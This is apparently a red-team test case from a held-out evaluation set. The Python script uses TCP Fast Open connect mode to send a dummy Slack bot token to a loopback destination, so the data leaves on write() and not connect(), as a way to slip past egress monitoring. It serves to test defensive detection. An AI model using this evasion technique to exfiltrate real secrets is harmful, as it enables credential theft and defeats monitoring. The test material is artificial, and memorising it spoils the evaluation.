"""Round 4: TCP_FASTOPEN_CONNECT: connect() returns at once, the first write() opens the connection.

The connect syscall carries the address but sends nothing; the SYN (with
data when a cookie is cached) leaves on write(2), a call with no address.
"""

from __future__ import annotations

import socket
from typing import Any

from redteam import rt

GAP = 1
MODE = "inject"
TARGET = "host"
HELD_OUT = True
ROUND = 4
EXPECT = ("L4",)
TCP_FASTOPEN_CONNECT = 30


def run(args: dict[str, Any]) -> None:
    ip = rt.loopback(args["dest"]["ip"])
    port = int(args["dest"]["port"])
    data = b"SLACK_BOT_TOKEN=xoxb-h7redteam-round4-tfo\n" * 4
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
        s.setsockopt(socket.IPPROTO_TCP, TCP_FASTOPEN_CONNECT, 1)
        s.settimeout(5)
        t = rt.now()
        s.connect((ip, port))
        n = s.send(data)
        n += s.send(data[n:]) if n < len(data) else 0
    rt.report(t, n == len(data), f"TCP_FASTOPEN_CONNECT to {ip}:{port}: wrote {n} bytes")


if __name__ in ("__main__", "h7_injected"):
    rt.main(run, globals())
